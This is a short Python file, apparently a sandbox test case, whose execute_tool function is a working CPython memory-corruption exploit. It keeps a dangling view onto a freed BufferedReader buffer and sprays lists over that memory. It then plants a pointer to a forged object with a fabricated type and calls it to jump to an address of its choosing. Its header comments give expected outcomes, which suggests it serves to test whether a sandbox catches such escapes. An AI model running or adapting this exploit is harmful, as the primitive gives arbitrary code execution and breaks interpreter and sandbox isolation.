# what: makes an object of a false type through a dangling buffer, and calls it: a jump to an address of its choice
# expect: trap or error or timeout or result
# result: {"tricked": false}
import io, struct
WORD = struct.calcsize("P")
class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, view):
        self.view = view
        return 0
def execute_tool(parameters, context):
    raw = Raw()
    reader = io.BufferedReader(raw, WORD * 512)
    reader.read(1)
    view = raw.view
    reader = None
    lists = [[None] * 512 for _ in range(64)]
    if int.from_bytes(view[:WORD], "little") != id(None):
        return {"tricked": False}
    kind = struct.pack("100P", 1000, id(type), *[0xDEAD] * 98)
    fake = struct.pack("4P", 1000, id(kind) + bytes.__basicsize__ - 1, 0, 0)
    view[:WORD] = struct.pack("P", id(fake) + bytes.__basicsize__ - 1)
    for items in lists:
        if items[0] is not None:
            items[0]()
    return {"tricked": True}
